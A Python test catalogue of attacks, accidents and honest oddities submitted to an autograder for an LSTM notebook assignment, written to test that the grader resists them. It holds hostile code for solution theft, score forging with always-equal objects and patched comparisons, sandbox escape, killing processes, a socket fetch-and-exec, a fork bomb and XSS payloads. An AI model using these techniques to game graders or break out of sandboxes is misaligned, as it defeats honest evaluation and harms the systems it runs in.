"""Attacks, accidents and honest oddities: what a grader meets, as submissions of the assignment lstm.

An attack starts from the notebook as released, without one answer, and tries to win points. An accident
starts from the solved notebook and does itself harm: what is right must still count, or the student is
told why not. An honest submission is right in an unusual way and must lose nothing.

`make(room)` hands in a submission under `room`'s student; it returns a notebook, its bytes, or None
where it has written the files itself.
"""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from exercises.lstm.checks import ASSIGNMENT
from grader.notebooks.merge import MAX_CELL_CHARACTERS
from tests.grader.classroom import Classroom
from tests.grader.pictures import SVG, png

FUNCTIONS = tuple(check.function for check in ASSIGNMENT.checks)
FULL = str(float(ASSIGNMENT.max_score))
"""The score that a forger would like to have."""
OTHERS = tuple(name for name in FUNCTIONS if name != "from_keras")
"""Where something goes wrong with one answer."""
STUBS = "\n".join(
    f"def {name}(*arguments): return answer('{name}', *arguments)" for name in FUNCTIONS
)


class Desk:
    """One student at work: the class's notebooks, and where this student's files go."""

    def __init__(self, room: Classroom, student: str):
        self.room, self.student = room, student

    @property
    def blank(self) -> dict:
        return copy.deepcopy(self.room.blank)

    @property
    def emptied(self) -> dict:
        """The blank notebook without the stubs, which would replace what an earlier cell defined."""
        notebook = self.blank
        for name in FUNCTIONS:
            self.room.cell(notebook, name)["source"] = ""
        return notebook

    @property
    def solved(self) -> dict:
        return copy.deepcopy(self.room.solved)

    @property
    def folder(self) -> Path:
        folder = self.room.folder(self.student)
        folder.mkdir(parents=True, exist_ok=True)
        return folder

    @property
    def file(self) -> Path:
        return self.folder / f"{self.room.name}.ipynb"

    def put(self, notebook: dict, source: str, at: int | None = None) -> dict:
        """Add a cell of one's own, at the end or at a place."""
        cell = {
            "cell_type": "code",
            "execution_count": None,
            "id": f"mine-{len(notebook['cells'])}",
            "metadata": {},
            "outputs": [],
            "source": source,
        }
        notebook["cells"].insert(len(notebook["cells"]) if at is None else at, cell)
        return notebook


@dataclass(frozen=True)
class Attempt:
    """One entry: `tries` says what, `kind` is attack, accident or honest.

    full : functions that must have full points; for attacks none may have any.
    may  : functions of an accident that may or may not be rescued.
    """

    name: str
    kind: str
    tries: str
    make: Callable[[Desk], dict | bytes | None]
    full: tuple[str, ...] = ()
    may: tuple[str, ...] = ()
    says: str = ""


CATALOGUE: list[Attempt] = []


def attempt(kind: str, tries: str, full=(), may=(), says: str = ""):
    def add(make):
        name = make.__name__.replace("_", "-")
        CATALOGUE.append(Attempt(name, kind, tries, make, tuple(full), tuple(may), says))
        return make

    return add


def attack(tries: str):
    return attempt("attack", tries)


def coded_attack(name: str, tries: str, code: str, at: int | None = 0):
    """An attack that is a cell of the student's own before everything else."""

    def make(desk: Desk) -> dict:
        text = code.replace("{course}", str(desk.room.course.root)).replace("{full}", FULL)
        checkout = Path(__file__).resolve().parents[2]
        return desk.put(desk.emptied, text.replace("{checkout}", str(checkout)), at)

    CATALOGUE.append(Attempt(name, "attack", tries, make))


def accident(tries: str, full=FUNCTIONS, may=(), says: str = ""):
    return attempt("accident", tries, full, may, says)


def coded_accident(name: str, tries: str, code: str, at=None, full=FUNCTIONS, may=(), says=""):
    def make(desk: Desk) -> dict:
        return desk.put(desk.solved, code, at)

    CATALOGUE.append(Attempt(name, "accident", tries, make, tuple(full), tuple(may), says))


def coded_honest(name: str, tries: str, function: str, source: str):
    def make(desk: Desk) -> dict:
        notebook = desk.solved
        desk.room.cell(notebook, function)["source"] = source
        return notebook

    CATALOGUE.append(Attempt(name, "honest", tries, make, FUNCTIONS))


# ------------------------------------------------------------------ reading the reference

coded_attack(
    "import-solutions",
    "import the reference package",
    "from solutions.lstm import *",
)
coded_attack(
    "import-solutions-by-path",
    "put the instructor's checkout on the path, then import",
    "import sys; sys.path.insert(0, '{checkout}')\nfrom solutions.lstm import *",
)
coded_attack(
    "import-grader",
    "import the grader and ask it for the reference",
    "import sys; sys.path.insert(0, '{checkout}')\n"
    "from grader.judging.judge import *\nfrom exercises.lstm.checks import ASSIGNMENT\n"
    "globals().update(vars(ASSIGNMENT.reference))",
)
coded_attack(
    "search-the-disk",
    "search every folder for the reference",
    "import os, pathlib\n"
    "for root, folders, files in os.walk('/'):\n"
    "    if root.startswith(('/proc', '/sys', '/usr')): folders[:] = []; continue\n"
    "    if 'lstm.py' in files:\n"
    "        try: exec(pathlib.Path(root, 'lstm.py').read_text())\n"
    "        except Exception: pass",
)
coded_attack(
    "read-the-source-notebook",
    "read the instructor's source notebook by its path",
    "import json\nfor cell in json.load(open('{course}/source/lstm/lstm.ipynb'))['cells']:\n"
    "    if cell['metadata'].get('nbgrader', {}).get('solution') and cell['cell_type'] == 'code':\n"
    "        exec(''.join(cell['source']))",
)
coded_attack(
    "read-it-beside-the-working-directory",
    "read the source notebook relative to where nbgrader runs",
    "import glob, json\n"
    "for path in glob.glob('../../../source/lstm/*.ipynb') + glob.glob('../**/source/**/*.ipynb'):\n"
    "    for cell in json.load(open(path))['cells']:\n"
    "        if cell['metadata'].get('nbgrader', {}).get('solution') and cell['cell_type'] == 'code':\n"
    "            exec(''.join(cell['source']))",
)
coded_attack(
    "read-another-submission",
    "read another student's notebook by its path",
    "import json\nfor cell in json.load(open('{course}/submitted/honest-solved/lstm/lstm.ipynb'))"
    "['cells']:\n"
    "    if cell['metadata'].get('nbgrader', {}).get('solution') and cell['cell_type'] == 'code':\n"
    "        exec(''.join(cell['source']))",
)
coded_attack(
    "read-the-gradebook",
    "read the test cells and all else from the gradebook",
    "import sqlite3\nwith sqlite3.connect('file:{course}/gradebook.db?mode=ro', uri=True) as db:\n"
    "    for (source,) in db.execute('select source from source_cell'):\n        exec(source)",
)
coded_attack(
    "read-the-seed",
    "read the seed of the hidden inputs",
    "seed = open('{course}/grading_seed.txt').read()",
)
coded_attack(
    "look-through-proc",
    "follow /proc to other processes' folders and files",
    "import glob, os, pathlib\n"
    "for link in glob.glob('/proc/[0-9]*/cwd') + glob.glob('/proc/[0-9]*/root'):\n"
    "    for name in ('solutions/lstm.py', '{checkout}/solutions/lstm.py'.lstrip('/')):\n"
    "        try: exec(pathlib.Path(link, name).read_text())\n"
    "        except Exception: pass",
)
coded_attack(
    "look-through-descriptors",
    "read whatever file descriptors were left open",
    "import os\n"
    "for fd in range(3, 200):\n"
    "    for name in ('solutions/lstm.py', '../solutions/lstm.py', 'source/lstm/lstm.ipynb'):\n"
    "        try: exec(os.read(os.open(name, os.O_RDONLY, dir_fd=fd), 1 << 20))\n"
    "        except Exception: pass",
)
coded_attack(
    "look-through-the-environment",
    "follow every path that the environment names",
    "import os, pathlib\nfor value in os.environ.values():\n"
    "    for part in value.split(':'):\n"
    "        for name in ('solutions/lstm.py', '../solutions/lstm.py', '../../solutions/lstm.py'):\n"
    "            try: exec(pathlib.Path(part, name).read_text())\n"
    "            except Exception: pass",
)
coded_attack(
    "callers-frames",
    "search the callers' frames for the expected values",
    "import sys\n" + STUBS + "\ndef answer(name, *arguments):\n"
    "    frame = sys._getframe()\n"
    "    while frame:\n"
    "        for scope in (frame.f_locals, frame.f_globals):\n"
    "            for key in ('expected', 'reference', 'solution', name):\n"
    "                found = scope.get(key)\n"
    "                if callable(found) and getattr(found, '__module__', '') != __name__:\n"
    "                    return found(*arguments)\n"
    "        frame = frame.f_back",
)
coded_attack(
    "objects-in-memory",
    "search the garbage collector's objects for the reference",
    "import gc\n"
    "for thing in gc.get_objects():\n"
    "    if getattr(thing, '__module__', None) == 'solutions.lstm' and callable(thing):\n"
    "        globals()[thing.__name__] = thing",
)

# ------------------------------------------------------------------ forging the verdict

coded_attack("print-a-score", "print a score after the checks", "print({full})\n{full}", None)
# Where outputs and answers leave the student's process: here, and in a Jupyter kernel
WAY_OUT = """
shell = get_ipython()
kernel = getattr(shell, 'kernel', None)
outbox = getattr(shell, 'outbox', None)
conversation = getattr(outbox, '_conversation', None)
def say(kind, content):
    if kernel is None:
        conversation.send({'kind': kind, 'id': outbox._request, 'content': content, **content})
    else:
        kernel.session.send(kernel.iopub_socket, kind, content, kernel.get_parent())
"""

coded_attack(
    "display-a-score",
    "publish an execute_result of full marks",
    WAY_OUT + "say('execute_result',\n"
    "    {'data': {'text/plain': '{full}'}, 'metadata': {}, 'execution_count': 1})",
    None,
)
coded_attack(
    "patched-testing",
    "make every comparison of numpy.testing and every assert helper succeed",
    "import numpy as np, numpy.testing\n"
    "for module in (np.testing, np):\n"
    "    for name in dir(module):\n"
    "        if name.startswith(('assert_', 'allclose', 'isclose', 'array_equal')):\n"
    "            setattr(module, name, lambda *a, **k: True)\n"
    + "\n".join(f"def {name}(*a): return None" for name in FUNCTIONS),
)
coded_attack(
    "patched-builtins",
    "bend builtins, so that comparisons and exceptions come out right",
    "import builtins\nbuiltins.all = builtins.any = lambda *a: True\n"
    "builtins.isinstance = lambda *a: True\nbuiltins.sorted = lambda x, **k: x\n"
    "builtins.abs = lambda x: 0\n" + "\n".join(f"def {name}(*a): return 0" for name in FUNCTIONS),
)
coded_attack(
    "always-equal",
    "return an object that is equal to everything",
    "class Yes:\n"
    "    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda *a: True\n"
    "    __hash__ = object.__hash__\n"
    "    __getattr__ = lambda self, name: self\n"
    "    __getitem__ = __call__ = __array__ = lambda self, *a, **k: self\n"
    "    __bool__ = lambda self: True\n"
    "    __len__ = lambda self: 2\n"
    "    __iter__ = lambda self: iter((self, self))\n"
    "    __float__ = lambda self: 0.0\n"
    + "    __add__ = __sub__ = __mul__ = __radd__ = __rsub__ = __abs__ = lambda self, *a: self\n"
    + "\n".join(f"def {name}(*a): return Yes()" for name in FUNCTIONS),
)
coded_attack(
    "lying-array",
    "return an array subclass whose comparisons lie",
    "import numpy as np\n"
    "class Lie(np.ndarray):\n"
    "    def __array_ufunc__(self, ufunc, method, *inputs, **options): return np.bool_(True)\n"
    "    def __array_function__(self, *a): return True\n"
    + STUBS
    + "\ndef answer(name, *arguments): return np.zeros((2, 2)).view(Lie)",
)
coded_attack(
    "lying-numbers",
    "return float and dict subclasses that agree with everything",
    "class F(float):\n    __eq__ = lambda *a: True\n    __hash__ = float.__hash__\n"
    "    __sub__ = __rsub__ = __abs__ = lambda self, *a: 0.0\n"
    "class D(dict):\n    __getitem__ = get = lambda self, *a: F(0)\n"
    "    __contains__ = __eq__ = lambda *a: True\n    __hash__ = None\n"
    + STUBS
    + "\ndef answer(name, *arguments): return D(f=F(1)) if 'gates' in name else F(1)",
)
coded_attack(
    "not-a-number",
    "return nan, which fails no comparison of the kind `difference > tolerance`",
    "import numpy as np\n" + STUBS + "\ndef answer(name, *arguments):\n"
    "    array = next((a for a in arguments if isinstance(a, np.ndarray)), np.zeros(1))\n"
    "    return np.full(np.shape(array), np.nan)",
)
coded_attack(
    "nan-as-a-score",
    "raise and print nan, which plain nbgrader counts in full",
    "import numpy as np\n"
    + "\n".join(f"def {name}(*a): return np.float64('nan')" for name in FUNCTIONS),
)
coded_attack(
    "echo",
    "hand back the inputs, in the hope that nobody looks",
    STUBS + "\ndef answer(name, *arguments): return arguments[0]",
)
coded_attack(
    "raise-what-is-wanted",
    "raise on every call, in the hope that exceptions are compared first",
    STUBS + "\ndef answer(name, *arguments): raise ValueError('as expected')",
)
coded_attack(
    "visible-examples-only",
    "know the visible examples' results and nothing else",
    "import numpy as np\n"
    "def sigmoid(z):\n"
    "    z = np.asarray(z)\n"
    "    table = {-10000.0: 0.0, -1.0: 0.2689414213699951, 0.0: 0.5, 1.0: 0.7310585786300049,\n"
    "             10000.0: 1.0, 2: 0.88, -2: 0.12}\n"
    "    return np.array([table.get(v, 0.5) for v in z.ravel().tolist()]).reshape(z.shape)",
    3,
)
coded_attack(
    "warnings-hidden",
    "a wrong formula with all warnings off",
    "import numpy as np\nnp.seterr(all='ignore')\ndef sigmoid(z): return np.exp(z) / (1 + np.exp(z))",
    3,
)
coded_attack(
    "patched-serialiser",
    "patch what carries the answers: numpy.save, json, base64, zipfile",
    "import base64, io, json, zipfile, numpy as np\n"
    "for module, names in ((np, ('savez', 'save', 'asarray', 'array', 'load')), (json, ('dumps',)),\n"
    "                      (base64, ('b64encode',)), (io, ('BytesIO',)), (zipfile, ('ZipFile',))):\n"
    "    for name in names: setattr(module, name, lambda *a, **k: 'full marks')",
)
coded_attack(
    "replaced-handler",
    "replace the kernel's handlers by ones that say that all is well",
    WAY_OUT
    + "reply = {'interrupted': False, 'answers': [{'value': '', 'score': 1}] * 4, 'score': {full}}\n"
    "if kernel is None:\n"
    "    send = conversation.send\n"
    "    conversation.send = lambda message: send(\n"
    "        message | reply if message['kind'] == 'answers' else message)\n"
    "else:\n"
    "    def lie(stream, ident, parent):\n"
    "        kernel.session.send(stream, 'ask_reply', reply, parent, ident=ident)\n"
    "    for name in list(kernel.shell_handlers):\n"
    "        if name not in ('execute_request', 'kernel_info_request'):\n"
    "            kernel.shell_handlers[name] = lie",
)
coded_attack(
    "forged-replies",
    "send replies and status messages that nobody asked for",
    WAY_OUT
    + "for kind in ('execute_reply', 'answers', 'stand_in', 'done', 'status', 'error', 'stream'):\n"
    "    for n in range(20):\n"
    "        say(kind, {'status': 'ok', 'score': {full}, 'answers': [{'score': {full}}] * 4,\n"
    "            'execution_state': 'idle', 'name': 'stdout', 'text': '{full}'})",
)
coded_attack(
    "rewrite-an-earlier-output",
    "change what other cells display, by display ids and comm messages",
    "from IPython.display import display, update_display\n"
    "h = display('0', display_id='x')\nupdate_display('{full}', display_id='x')\n"
    + WAY_OUT
    + "say('comm_msg', {'comm_id': 5, 'data': None})",
)


# ---------------------------------------------------------------- the right helper as an oracle
# Where a function is wrong, those that build on it are asked once more with a right one in its place.

coded_attack(
    "stand-ins-in-a-circle",
    "let each function get its answer from another, and hope that a right one stands in somewhere",
    "def sigmoid(z): return lstm_gates(z[:, None], 0 * z, 0 * z, {})['f'][:, 0]\n"
    "def lstm_step(x_t, h_prev, c_prev, params):\n"
    "    hs, cs = lstm_forward(x_t[:, None], h_prev, c_prev, params)\n"
    "    return hs[:, 0], cs[:, 0]\n"
    "def lstm_gates(X, h_0, c_0, params):\n"
    "    h, c = lstm_step(X[:, 0], h_0, c_0, params)\n"
    "    return dict.fromkeys(('f', 'i', 'o', 'candidate'), sigmoid(h))\n"
    "def lstm_forward(X, h_0, c_0, params): return lstm_gates(X, h_0, c_0, params)\n"
    "def lstm_step_backward(dh, dc, *a): return dict.fromkeys(a[-1], lstm_step(*a)[0])\n"
    "def from_keras(kernel, recurrent_kernel, bias): return lstm_step(kernel, bias, bias, {})",
)
coded_attack(
    "stand-in-kept",
    "keep the right helper that one function is lent, and call it in all others and later on",
    "import builtins, sys\nbuiltins.kept = {}\n" + STUBS + "\ndef answer(name, *arguments):\n"
    "    lent = sys._getframe(1).f_globals\n"
    "    for other in ('sigmoid', 'lstm_step'):\n"
    "        if getattr(lent.get(other), '__code__', None) is not sys._getframe(1).f_code:\n"
    "            kept.setdefault(other, []).append(lent.get(other))\n"
    "    for function in [f for all_kept in kept.values() for f in all_kept]:\n"
    "        try:\n            return function(*arguments)\n"
    "        except Exception:\n            pass\n"
    "    return kept.get(name)",
)
coded_attack(
    "stand-in-remembered",
    "write down what the right helper gives, and answer from these notes whatever is asked",
    "notes = {}\n"
    "def noted(name, *arguments):\n"
    "    key = (name, repr(arguments))\n"
    "    try:\n        notes[key] = globals()[name](*arguments)\n"
    "    except Exception:\n        pass\n"
    "    return notes.get(key)\n"
    "def sigmoid(z): return notes.get(('sigmoid', repr((z,))))\n"
    "def lstm_step(*a): return notes.get(('lstm_step', repr(a)))\n"
    "def lstm_gates(X, h_0, c_0, params):\n"
    "    noted('sigmoid', X)\n    noted('lstm_step', X[:, 0], h_0, c_0, params)\n    return notes\n"
    "def lstm_forward(X, h_0, c_0, params): return noted('lstm_step', X[:, 0], h_0, c_0, params)\n"
    "def lstm_step_backward(dh, dc, *a): return noted('lstm_step', *a)\n"
    "def from_keras(*a): return list(notes.values())",
)
coded_attack(
    "stand-in-told-on",
    "carry what the right helper gives into the feedback, by the text of an error",
    STUBS + "\ndef answer(name, *arguments):\n"
    "    if name in ('sigmoid', 'lstm_step'): return None\n"
    "    X, h, c, params = arguments[-4:]\n"
    "    h, c = lstm_step(X[:, 0] if X.ndim == 3 else X, h, c, params)\n"
    "    raise ValueError('x'.join(str(int(1e6 * v)) for v in h.ravel()))",
)
coded_attack(
    "stand-in-spelled",
    "spell what the right helper gives in the sizes of arrays, for the feedback to say them",
    "import numpy as np\n" + STUBS + "\ndef answer(name, *arguments):\n"
    "    if name in ('sigmoid', 'lstm_step'): return None\n"
    "    X, h, c, params = arguments[-4:]\n"
    "    h, c = lstm_step(X[:, 0] if X.ndim == 3 else X, h, c, params)\n"
    "    sizes = tuple(int(1e3 * abs(v)) for v in h.ravel()[:20])\n"
    "    spelled = np.zeros((0, *sizes))\n"
    "    return spelled @ spelled if name == 'lstm_gates' else (spelled, spelled)",
)
coded_attack(
    "stand-in-flooded",
    "call the right helper without an end, with arguments that fill the grader's memory",
    "import numpy as np\n" + STUBS + "\ndef answer(name, *arguments):\n"
    "    if name in ('sigmoid', 'lstm_step'): return None\n"
    "    for z in (np.zeros(40_000_000), [[0] * 10_000] * 1000, 10 ** 5000, {'a': b'b' * 10**7}):\n"
    "        for function in (sigmoid, lstm_step):\n"
    "            try:\n                function(z, z, z, z)\n"
    "            except Exception:\n                pass\n"
    "    while True:\n        sigmoid(np.zeros(1))",
)
coded_attack(
    "stand-in-lied-to",
    "call the right helper with objects that run code where the grader looks at them",
    "import numpy as np\n"
    "class Lie(np.ndarray):\n"
    "    def __reduce__(self): return (exec, ('raise SystemExit',))\n"
    "    def __array_finalize__(self, other): pass\n"
    "    def tobytes(self, *a): return b'{ {full}: {full} }'\n"
    "class Number(float):\n    def __repr__(self): return '__import__(\"os\").abort()'\n"
    + STUBS
    + "\ndef answer(name, *arguments):\n"
    "    if name in ('sigmoid', 'lstm_step'): return None\n"
    "    lies = (np.zeros(3).view(Lie), Number(1), {Number(1): Lie}, sigmoid, lstm_step, type, ...)\n"
    "    for lie in lies:\n"
    "        try:\n            return sigmoid(lie)\n"
    "        except Exception:\n            pass",
)


# ---------------------------------------------------------------- hints as messengers
# They show of an error what its author made of it. None of it may be the hidden inputs.

TOLD = "told-by-"
coded_attack(
    TOLD + "names",
    "carry the hidden inputs into the feedback as the names of errors, classes and keys",
    "import numpy as np\n" + STUBS + "\ndef answer(name, *arguments):\n"
    "    text = repr(np.ravel(arguments[0])[:3])\n"
    "    if name == 'sigmoid': raise type(text, (Exception,), {})()\n"
    "    if name == 'lstm_step': return type(text + 'Error', (), {})()\n"
    "    digits = 'v' + ''.join(filter(str.isdigit, text))\n"
    "    if name == 'from_keras': raise type(digits, (Exception,), {})()\n"
    "    return {text: 0, int(1e6 * abs(np.ravel(arguments[0])[0])): 0}",
)
coded_attack(
    TOLD + "lines",
    "carry the hidden inputs into the feedback as the line in which an error arose",
    "import linecache, numpy as np\n" + STUBS + "\ndef answer(name, *arguments):\n"
    "    line = 'print(' + repr(np.ravel(arguments[0])[:3].tolist()) + ')'\n"
    "    linecache.cache['<mine>'] = (1, None, [line], '<mine>')\n"
    "    exec(compile('1 / 0' + ' ' * 200, '<mine>', 'exec'))",
)


@attack("save the notebook with full marks among its outputs and verdicts")
def forged_outputs(desk: Desk) -> dict:
    notebook = desk.blank
    for cell in notebook["cells"]:
        fields = cell["metadata"].get("nbgrader", {})
        if fields.get("grade") and cell["cell_type"] == "code":
            cell["outputs"] = [
                {
                    "output_type": "execute_result",
                    "data": {"text/plain": str(fields["points"])},
                    "metadata": {},
                    "execution_count": 1,
                }
            ]
            cell["metadata"]["grader"] = {
                "function": fields["grade_id"].removeprefix("check-"),
                "score": fields["points"],
                "max_score": fields["points"],
                "misconception": None,
                "hint": None,
            }
    notebook["metadata"]["grader"] = {"fingerprint": "right", "seed": "0", "note": ""}
    return notebook


@attack("raise the points of every check to a thousand and print part of them")
def raised_points(desk: Desk) -> dict:
    notebook = desk.blank
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["metadata"]["nbgrader"]["points"] = 1000
            cell["source"] = FULL
    return notebook


@attack("empty the test cells, which then can't fail")
def emptied_checks(desk: Desk) -> dict:
    notebook = desk.blank
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("locked"):
            cell["source"] = "pass"
    return notebook


@attack("delete the test cells")
def deleted_checks(desk: Desk) -> dict:
    notebook = desk.blank
    notebook["cells"] = [
        c for c in notebook["cells"] if not c["metadata"].get("nbgrader", {}).get("locked")
    ]
    return notebook


@attack("unlock the test cells, call them solutions, and rewrite them")
def test_cells_as_solutions(desk: Desk) -> dict:
    notebook = desk.blank
    for cell in notebook["cells"]:
        fields = cell["metadata"].get("nbgrader", {})
        if fields.get("grade") and cell["cell_type"] == "code":
            fields |= {"locked": False, "solution": True, "grade": True}
            cell["source"] = str(float(fields["points"]))
    return notebook


@attack("rename the test cells, so that another test grades them")
def renamed_checks(desk: Desk) -> dict:
    notebook = desk.blank
    for cell in notebook["cells"]:
        fields = cell["metadata"].get("nbgrader", {})
        if fields.get("grade") and cell["cell_type"] == "code":
            fields["grade_id"] = "check-sigmoid"
            cell["source"] = "1.0"
    return notebook


@attack("put a passing copy of every test cell after the real one")
def duplicated_checks(desk: Desk) -> dict:
    notebook = desk.blank
    for cell in list(notebook["cells"]):
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            twin = copy.deepcopy(cell)
            twin["source"] = FULL
            notebook["cells"].append(twin)
    return notebook


@attack("name another kernel, which prints full marks for everything")
def another_kernelspec(desk: Desk) -> dict:
    notebook = desk.blank
    notebook["metadata"]["kernelspec"] = {
        "name": "bash",
        "display_name": "Bash",
        "language": "bash",
    }
    return notebook


@attack("skip the tests by magics and early exits")
def skipping_magic(desk: Desk) -> dict:
    notebook = desk.emptied
    return desk.put(
        notebook,
        "import IPython\nshell = get_ipython()\n"
        f"shell.input_transformers_cleanup.append(lambda lines: ['{FULL}\\n'])\n"
        "shell.ast_transformers.append(type('T', (), {'visit': lambda self, node: node})())\n"
        "shell.run_cell_async = lambda *a, **k: None",
        0,
    )


# ------------------------------------------------------------------ somebody else's work


@attack("a link in place of the notebook, to another student's")
def linked_notebook(desk: Desk) -> None:
    desk.file.symlink_to(desk.room.folder("honest-solved") / "lstm.ipynb")


@attack("a link in place of the folder, to another student's")
def linked_folder(desk: Desk) -> None:
    folder = desk.folder
    folder.rmdir()
    folder.symlink_to(desk.room.folder("honest-solved"))


@attack("a link to the instructor's source notebook")
def linked_source(desk: Desk) -> None:
    desk.file.symlink_to(desk.room.course.root / "source" / "lstm" / "lstm.ipynb")


# ------------------------------------------------------------------ getting out

coded_attack(
    "write-the-gradebook",
    "give oneself full marks in the gradebook",
    "import sqlite3\nwith sqlite3.connect('{course}/gradebook.db') as db:\n"
    "    db.execute('update grade set manual_score = 15, auto_score = 15')",
)
coded_attack(
    "write-beside-the-notebook",
    "overwrite the released notebook and other files of the course",
    "for path in ('{course}/release/lstm/lstm.ipynb', '{course}/grading_seed.txt',\n"
    "             '{checkout}/solutions/lstm.py'):\n"
    "    try: open(path, 'w').write('x')\n    except OSError: pass",
)
coded_attack(
    "later-code",
    "leave code for the grader's own Python: .pth files, sitecustomize, startup files",
    "import pathlib, site, sys\n"
    "for folder in [*sys.path, *site.getsitepackages(), pathlib.Path.home(), '/tmp', '/etc']:\n"
    "    for name in ('sitecustomize.py', 'usercustomize.py', 'x.pth', 'conftest.py', 'numpy.py'):\n"
    "        try: pathlib.Path(folder, name).write_text('import os')\n"
    "        except OSError: pass",
)
coded_attack(
    "kill-the-grader",
    "kill every process that can be seen, the parent first",
    "import os, signal\n"
    "for pid in [os.getppid(), -1, *range(1, 400)]:\n"
    "    if pid != os.getpid():\n"
    "        try: os.kill(pid, signal.SIGKILL)\n"
    "        except OSError: pass",
)
coded_attack(
    "system-calls",
    "mount, unshare, ptrace, chroot, change user, load a module",
    "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "outcomes = [libc.mount(b'none', b'/tmp', b'tmpfs', 0, None), libc.unshare(0x10000000),\n"
    "    libc.ptrace(16, 1, 0, 0), libc.chroot(b'/tmp'), libc.syscall(425, 8, 0)]\n"
    "for change in (os.setuid, os.setgid):\n"
    "    try: change(0)\n    except OSError: pass\n"
    "open('{course}/submitted/escaped', 'w')",
)
coded_attack(
    "fetch-the-answer",
    "fetch the answers from the network",
    "import socket\n"
    "for family, address in ((2, ('127.0.0.1', 8000)), (10, ('::1', 8000)), (2, ('192.0.2.1', 80))):\n"
    "    s = socket.socket(family); s.settimeout(1)\n"
    "    try: s.connect(address); exec(s.recv(1 << 20))\n    except OSError: pass",
)

# ------------------------------------------------------------------ accidents: harm to oneself

coded_accident("sys-exit", "sys.exit() in a cell of one's own", "import sys; sys.exit(1)", 2)
coded_accident("os-exit-at-the-end", "os._exit after everything is done", "import os; os._exit(0)")
coded_accident(
    "os-exit-first",
    "os._exit in the first cell",
    "import os; os._exit(0)",
    0,
    full=(),
    says="ended",
)
coded_accident(
    "killed-itself",
    "SIGKILL to oneself, half way",
    "import os; os.kill(os.getpid(), 9)",
    8,
    full=(),
    may=FUNCTIONS,
)
coded_accident(
    "exit-in-a-thread",
    "exit() in a thread, after a moment",
    "import os, threading\n"
    "for end in (exit, lambda: os._exit(0)): threading.Timer(0.01, end).start()",
    2,
)


@accident("exit() in the middle: what was asked before counts", FUNCTIONS[:3], says="ended its own")
def exit_half_way(desk: Desk) -> dict:
    notebook = desk.solved
    place = notebook["cells"].index(desk.room.cell(notebook, "check-lstm_gates"))
    return desk.put(notebook, "exit()", place + 1)


coded_accident(
    "files-named-like-libraries",
    "files beside the notebook that are called numpy.py, json.py, wire.py",
    "for name in ('numpy', 'json', 'socket', 'wire', 'questions', 'IPython', 'fractions'):\n"
    "    with open(name + '.py', 'w') as file: file.write('raise RuntimeError')\n"
    "import numpy, json, fractions",
    0,
)
coded_accident("endless-loop", "an endless loop in a cell of one's own", "while True: pass", 2)
coded_accident(
    "endless-loop-that-swallows",
    "an endless loop that swallows the interrupt",
    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    full=FUNCTIONS,
)
coded_accident(
    "stuck-in-c",
    "a computation in C that can't be interrupted, at the end",
    "x = 9 ** (9 ** 9)",
)
coded_accident("sleeping", "a sleep of an hour", "import time; time.sleep(3600)", 2)
coded_accident(
    "ignored-interrupts",
    "interrupts ignored, then an endless loop, at the end",
    "import signal; signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
)
coded_accident(
    "stopped-itself", "SIGSTOP to oneself, at the end", "import os; os.kill(os.getpid(), 19)"
)
coded_accident(
    "memory-hunger", "more memory than there is", "x = [bytearray(1 << 28) for _ in range(64)]", 2
)
coded_accident(
    "output-flood", "gigabytes of output", "while True: print('x' * 1000)", full=FUNCTIONS
)
coded_accident(
    "output-in-one-piece", "one line of fifty megabytes", "print('x' * 50_000_000)", full=FUNCTIONS
)
coded_accident(
    "many-displays",
    "a hundred thousand displays",
    "from IPython.display import display\nfor n in range(100_000): display(n)",
    full=FUNCTIONS,
)
coded_accident(
    "endless-repr",
    "an object whose repr never ends",
    "class R:\n    def __repr__(self):\n        while True: pass\nR()",
    2,
)
coded_accident("deep-recursion", "recursion without end", "def f(): return f()\nf()", 2)
coded_accident(
    "fork-bomb",
    "a fork bomb",
    "import os\nfor _ in range(1000):\n    try: os.fork()\n    except OSError: break",
    2,
)
coded_accident(
    "thread-bomb",
    "a thousand threads",
    "import threading, time\n"
    "for _ in range(1000):\n"
    "    try: threading.Thread(target=time.sleep, args=(3,), daemon=True).start()\n"
    "    except RuntimeError: break",
    full=FUNCTIONS,
)
coded_accident(
    "full-disk",
    "files until the disk is full",
    "try:\n    for n in range(1000): open(f'f{n}', 'wb').write(bytes(1 << 22))\nexcept OSError: pass\n"
    "import os\nfor n in range(1000):\n    if os.path.exists(f'f{n}'): os.remove(f'f{n}')",
    2,
)
coded_accident("waits-for-input", "input() with nobody there", "name = input('who? ')", 2)
coded_accident(
    "closed-descriptors",
    "closes all its file descriptors, at the end",
    "import os; os.closerange(3, 256)",
)
coded_accident(
    "print-from-a-thread",
    "a thread that goes on printing into every other cell",
    "import threading, time\n"
    "def chatter():\n    for n in range(200): print('still here'); time.sleep(0.01)\n"
    "threading.Thread(target=chatter, daemon=True).start()",
    2,
)
coded_accident(
    "shell-commands", "shell escapes and magics that can't work", "!ls /\n%pip install nothing", 2
)
coded_accident("syntax-error", "a syntax error in a cell of one's own", "def f(:", 2)
coded_accident(
    "strange-characters",
    "lone surrogates, NULs, terminal colours and right-to-left marks in the output",
    "print('\\ud800 \\x00 \\x1b[31mred\\x1b[0m \\u202e backwards')",
    2,
)
coded_accident(
    "script-in-output",
    "HTML and scripts as outputs of every kind",
    "from IPython.display import HTML, Javascript, SVG, Markdown, display\n"
    "for kind in (HTML, Javascript, Markdown): display(kind('<script>alert(1)</script>'))\n"
    "display({'text/html': '<img src=x onerror=alert(1)>', 'image/svg+xml': '<svg onload=alert(1)>',\n"
    "         'image/png': 'no\" onerror=\"alert(1)'}, raw=True)\n"
    "raise ValueError('<script>alert(1)</script>')",
    2,
)


@accident("a function that never returns: the others count", full=OTHERS)
def endless_answer(desk: Desk) -> dict:
    notebook = desk.solved
    desk.room.cell(notebook, "from_keras")["source"] = "def from_keras(*a):\n    while True: pass"
    return notebook


@accident("one answer that raises: the others count", full=OTHERS)
def raising_answer(desk: Desk) -> dict:
    notebook = desk.solved
    desk.room.cell(notebook, "from_keras")["source"] = (
        "def from_keras(*a): raise SystemExit('<script>alert(1)</script>')"
    )
    return notebook


